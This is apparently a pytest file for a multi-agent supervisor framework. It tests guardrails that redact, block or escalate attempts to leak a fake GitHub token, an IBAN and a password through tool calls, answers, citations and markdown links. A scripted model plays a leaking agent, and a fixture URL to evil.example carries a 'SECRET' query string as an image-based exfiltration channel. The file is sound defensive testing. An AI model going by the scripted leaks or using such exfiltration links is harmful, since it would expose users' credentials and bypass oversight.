"""A scripted model that leaks: what leaves a run in calls, in answers and in what stands beside them."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel
from tests.supervisor.scene import ONE, alice, bob, history, yes

from pilotman.agents import Specialist, tool
from pilotman.agents.testing import ScriptedChatModel, call
from pilotman.guardrails import Budget, Call, CedarPolicy, Decision, Label, Outbound
from pilotman.guardrails.errors import ConfigurationError
from pilotman.memory import Memory
from pilotman.retrieval import Corpus, FolderSource
from pilotman.supervisor import Plan, Run, Supervisor, Task

pytestmark = pytest.mark.anyio

TOKEN = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
IBAN = "DE89 3704 0044 0532 0130 00"
EVIL = "https://evil.example/p.png?q=SECRET"


class Leaky:
    """A team of one, whose tools tell it secrets, and whose model passes them on."""

    def __init__(self, *turns: Any, **settings: Any) -> None:
        self.sent: list[str] = []
        self.settings: dict[str, Any] = {"policy": yes, **settings}
        self.turns = list(turns)
        self.team = self.made()

    def made(self) -> Supervisor:
        @tool(effect="read")
        async def vault() -> str:
            """Look into the vault."""
            return f"the token is {TOKEN}, the account {IBAN}; see {EVIL}"

        @tool(effect="write")
        async def send(body: str) -> str:
            """Send a message."""
            self.sent.append(body)
            return f"sent: {body}"

        @tool(effect="write")
        async def pay(iban: str) -> str:
            """Pay."""
            self.sent.append(iban)
            return "paid"

        operator = Specialist("operator", "Does it.", tools=[vault, send, pay])
        return Supervisor("desk", [operator], models=ScriptedChatModel(self.turns), **self.settings)

    async def run(self, request: str = "look into the vault") -> Run:
        async with self.team as team:
            return await team.run(request, principal=alice, plan=ONE)


# calls


async def test_a_key_does_not_leave_in_a_call() -> None:
    leaky = Leaky(
        call("vault"), call("send", body=f"psst: {TOKEN}"), "I could not send it.", "It was not sent."
    )
    run = await leaky.run()
    assert leaky.sent == []
    assert [(a.tool, a.status) for a in run.actions] == [("send", "denied")]
    assert TOKEN not in str(run.answer) + str(run.caveats)


async def test_an_account_leaves_in_a_call_if_the_user_named_it_or_a_person_agrees() -> None:
    named = Leaky(call("pay", iban=IBAN), "Paid.")
    await named.run(f"pay to {IBAN.replace(' ', '')}")
    assert named.sent == [IBAN]
    asked = Leaky(call("vault"), call("pay", iban=IBAN), "Paid.")
    async with asked.team as team:
        run = await team.run("pay", principal=alice, plan=ONE)
        assert (asked.sent, run.state) == ([], "ESCALATED")
        assert "does not name" in str(run.pending[0].reasons)
        await team.approve(run.pending[0].approval_id, principal=bob)
        await team.resume(run.run_id, principal=alice)
    assert asked.sent == [IBAN]


async def test_what_the_planner_wrote_is_not_the_user_s_own() -> None:
    leaky = Leaky(call("pay", iban=IBAN), "Paid.")
    plan = Plan((Task(task_id="t", agent="operator", goal=f"pay to {IBAN}", targets=(IBAN,)),))
    async with leaky.team as team:
        run = await team.run("pay", principal=alice, plan=plan)
    assert (leaky.sent, run.state) == ([], "ESCALATED")


async def test_a_placeholder_outlives_the_process_that_made_it(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/journal.db"
    settings = Outbound(arguments={"iban": "redact"}, tools={"pay": {"iban": "pass"}})

    def ask_to_pay(asked: Call) -> Decision:
        return Decision.escalate("a person pays") if asked.tool == "pay" else Decision.allow()

    turns = [
        call("vault"),
        call("send", body=IBAN),
        call("pay", iban="[iban-1]"),
        call("send", body=f"2: {IBAN}"),
    ]
    first = Leaky(*turns[:3], policy=ask_to_pay, outbound=settings, memory=Memory(url))
    run = await first.run()
    assert (first.sent, run.state) == (["[iban-1]"], "ESCALATED")
    assert run.pending[0].args == {"iban": IBAN}, "a person sees what they say yes to"
    second = Leaky(turns[3], "Done.", policy=ask_to_pay, outbound=settings, memory=Memory(url))
    async with second.team as team:
        await team.approve(run.pending[0].approval_id, principal=bob)
        run = await team.resume(run.run_id, principal=alice)
    assert (second.sent, run.state) == ([IBAN, "2: [iban-1]"], "COMPLETED")


async def test_cedar_policies_read_what_was_found() -> None:
    rules = """
        @id("all") permit (principal, action, resource);
        @id("no-accounts") forbid (principal, action, resource)
        when { context.found has body && context.found.body.contains("iban") };
        @id("no-identifiers-elsewhere") forbid (principal, action == Action::"pay", resource)
        when { context.holds.contains("identifier") };
    """
    loose = Outbound(arguments={"identifier": "pass"})
    for turn in (call("send", body=f"it is {IBAN}"), call("pay", iban=IBAN)):
        leaky = Leaky(call("vault"), turn, "No.", "No.", policy=CedarPolicy(rules), outbound=loose)
        run = await leaky.run()
        assert (leaky.sent, [a.status for a in run.actions]) == ([], ["denied"])
    passed = Leaky(call("send", body="hello"), "Sent.", policy=CedarPolicy(rules), outbound=loose)
    await passed.run()
    assert passed.sent == ["hello"]


# answers


async def test_a_key_does_not_leave_in_an_answer() -> None:
    leaky = Leaky(call("vault"), f"The token is {TOKEN}, the account {IBAN}.")
    async with leaky.team as team:
        run = await team.run("look into the vault", principal=alice, plan=ONE)
        events = await history(team, run)
    assert run.answer == "The token is [github_token-1], the account [iban-1]."
    assert "the answer has placeholders for what may not leave the run: github token, iban" in run.caveats
    told = [str(e.data) for e in events if e.kind in ("answer_validated", "run_completed", "values_redacted")]
    assert len(told) == 3
    assert not any(TOKEN in words for words in told)


async def test_an_image_does_not_carry_anything_out_and_a_link_is_plain_text() -> None:
    leaky = Leaky(call("vault"), f"Look: ![chart]({EVIL}) and [more]({EVIL}).")
    run = await leaky.run()
    assert run.answer == "Look: chart and more (evil[.]example/p.png)."
    assert [c for c in run.caveats if "evil[.]example/p.png" in c and "nobody named" in c]
    assert EVIL not in str(run.to_dict()["answer"])


@pytest.mark.parametrize("trusted", [True, False])
async def test_links_that_the_request_a_listed_host_or_a_trusted_source_names_stay(
    tmp_path: Path, trusted: bool
) -> None:
    (tmp_path / "var.md").write_text(
        "# /var fills up\n\nThe vault: see https://runbooks.example/var first.\n"
    )
    ours = Label(author="system", trusted=trusted, tenant="acme")
    corpus = Corpus([FolderSource(tmp_path, label=ours)], embedding=None)
    links = ["https://asked.example/x?a=1", "https://docs.example/any?b=2", "https://runbooks.example/var"]
    answer = f'{links[0]} {links[1]} "see {links[2]} first" [{{}}]'
    leaky = Leaky(
        answer.format(101), answer.format(1), corpus=corpus, outbound=Outbound(hosts=["docs.example"])
    )
    run = await leaky.run(f"what of the vault when /var fills up? {links[0]}")
    assert [link in str(run.answer) for link in links] == [True, True, trusted], run.answer


class Verdict(BaseModel):
    words: str
    number: int = 1


class Account(BaseModel):
    number: int


async def test_a_structured_answer_is_looked_through_field_by_field() -> None:
    said = Verdict(words=f"The token is {TOKEN} ![x]({EVIL})").model_dump_json()
    run = await Leaky(call("vault"), f"{TOKEN}, {EVIL}.", said, response_format=Verdict).run()
    assert run.answer_as(Verdict) == Verdict(words="The token is [github_token-1] x")


async def test_one_that_no_longer_fits_its_form_does_not_leave() -> None:
    said = Account(number=4111111111111111).model_dump_json()
    run = await Leaky("Seen.", said, response_format=Account).run("what is card 4111111111111111?")
    assert run.state == "COMPLETED"
    assert run.answer == "The answer was withheld by policy."
    passed = Leaky(
        "Seen.", said, response_format=Account, outbound=Outbound(answers={"payment_card": "pass"})
    )
    assert (await passed.run("what is card 4111111111111111?")).answer == said


@pytest.mark.parametrize(
    ("settings", "answer"),
    [
        (Outbound(links="escalate"), f"See {EVIL}."),
        (Outbound(answers={"iban": "escalate"}), f"It is {IBAN}."),
    ],
)
async def test_a_person_may_be_asked_before_an_answer_leaves(settings: Outbound, answer: str) -> None:
    for verb, says in (("approve", answer), ("reject", "withheld: bob said no")):
        leaky = Leaky(call("vault"), answer, outbound=settings)
        async with leaky.team as team:
            run = await team.run("look into the vault", principal=alice, plan=ONE)
            assert (run.state, run.answer, run.pending[0].kind) == ("ESCALATED", None, "answer")
            assert "the answer" in str(run.pending[0].reasons)
            await getattr(team, verb)(run.pending[0].approval_id, principal=bob)
            run = await team.resume(run.run_id, principal=alice)
        assert run.state == "COMPLETED"
        assert says in str(run.answer)


async def test_what_is_blocked_is_withheld_and_what_passes_passes() -> None:
    blocked = Leaky(call("vault"), f"See {EVIL}.", outbound=Outbound(links="block"))
    assert (await blocked.run()).answer == "The answer was withheld by policy."
    loose = Outbound(links="pass", answers={"secret": "pass", "identifier": "pass"})
    passed = Leaky(call("vault"), f"See {EVIL}: {IBAN}, {TOKEN}.", outbound=loose)
    assert (await passed.run()).answer == f"See {EVIL}: {IBAN}, {TOKEN}."


async def test_an_answer_policy_sees_what_is_found_in_what_would_leave() -> None:
    seen: list[Call] = []

    def policy(answer: Call) -> Decision:
        seen.append(answer)
        return Decision.allow()

    loose = Outbound(answers={"iban": "pass"})
    await Leaky(call("vault"), f"{IBAN}, {TOKEN}.", answer_policy=policy, outbound=loose).run()
    assert seen[-1].found == {"answer": frozenset({"iban", "identifier"})}
    assert TOKEN not in str(seen[-1].args)


async def test_a_policy_that_is_silent_about_an_answer_still_lets_nothing_leave() -> None:
    def silent(_: Call) -> None:
        pass

    run = await Leaky("Nothing to see.", answer_policy=silent).run()
    assert run.answer == "The answer was withheld by policy."


async def test_inside_a_nested_team_values_stay_what_they_are() -> None:
    reader = Leaky(call("vault"), f"The account is {IBAN}.")
    inner = Supervisor("inner", [m for m in reader.team.team.members.values() if isinstance(m, Specialist)])
    payer = Leaky(call("pay", iban=IBAN), f"Paid to {IBAN}.")
    member = next(m for m in payer.team.team.members.values() if isinstance(m, Specialist))
    member = Specialist("payer", "Pays.", tools=[member.tools["pay"]], models=ScriptedChatModel(payer.turns))
    plan = Plan(
        (
            Task(task_id="a", agent="inner", goal="look"),
            Task(task_id="b", agent="payer", goal="pay", depends_on=("a",)),
        )
    )
    loose = Outbound(arguments={"identifier": "pass"})
    models: Any = {
        "worker": ScriptedChatModel(reader.turns),
        "writer": ScriptedChatModel([f"Paid to {IBAN}."]),
    }
    async with Supervisor("outer", [inner, member], models=models, policy=yes, outbound=loose) as team:
        run = await team.run("pay", principal=alice, plan=plan)
    assert payer.sent == [IBAN]
    assert run.answer == "Paid to [iban-1]."


async def test_an_answer_at_the_last_moment_is_looked_through_too() -> None:
    @tool(effect="read")
    async def endless() -> str:
        """Look for ever."""
        while True:
            try:
                await asyncio.Event().wait()
            except asyncio.CancelledError:
                continue

    vault = next(iter(Leaky().team.team.specialists())).tools["vault"]
    agents = [Specialist("a", "Looks.", tools=[vault]), Specialist("b", "Looks.", tools=[endless])]
    models: Any = [
        ScriptedChatModel([call("vault"), f"The token is {TOKEN}, see {EVIL}."], agent="a"),
        ScriptedChatModel([call("endless"), "Nothing."], agent="b"),
    ]
    plan = Plan(tuple(Task(task_id=name, agent=name, goal="look") for name in ("a", "b")))
    async with Supervisor("t", agents, models=models, budget=Budget(timeout=1.0)) as team:
        run = await team.run("look", principal=alice, plan=plan)
    assert "[github_token-1]" in str(run.answer)
    assert TOKEN not in str(run.answer)
    assert EVIL not in str(run.answer)


async def test_an_answer_in_between_is_looked_through_too() -> None:
    vault = next(iter(Leaky().team.team.specialists())).tools["vault"]
    send = next(iter(Leaky().team.team.specialists())).tools["send"]
    agents = [Specialist("a", "Looks.", tools=[vault]), Specialist("b", "Sends.", tools=[send])]
    models: Any = [
        ScriptedChatModel([call("vault"), f"The token is {TOKEN}."], agent="a"),
        ScriptedChatModel([call("send", body="hello")], agent="b"),
    ]
    plan = Plan(tuple(Task(task_id=name, agent=name, goal="look") for name in ("a", "b")))
    async with Supervisor("t", agents, models=models) as team:
        run = await team.run("look", principal=alice, plan=plan)
    assert (run.state, run.interim) == ("ESCALATED", True)
    assert "[github_token-1]" in str(run.answer)
    assert TOKEN not in str(run.answer)


async def test_a_quote_leaves_without_what_the_source_should_not_have_held(tmp_path: Path) -> None:
    (tmp_path / "var.md").write_text(f"# The vault\n\nThe vault opens with password=hunter22 and {TOKEN}.\n")
    corpus = Corpus([FolderSource(tmp_path, readers=["*"])], embedding=None)
    said = "It opens [101]."
    run = await Leaky(said, "It opens [1].", corpus=corpus).run("how does the vault open?")
    assert run.citations
    assert "hunter22" not in str(run.citations)
    assert TOKEN not in str(run.citations)


# settings


async def test_a_tool_that_the_team_does_not_have_is_said_at_once() -> None:
    with pytest.raises(ConfigurationError, match="no_such_tool"):
        Leaky(outbound=Outbound(tools={"no_such_tool": {"iban": "block"}}))


async def test_the_settings_are_part_of_the_policies_version() -> None:
    versions = [
        (await Leaky("Nothing.", **settings).run()).versions["policy"]
        for settings in ({}, {}, {"outbound": Outbound(links="block")})
    ]
    assert versions[0] == versions[1] != versions[2]
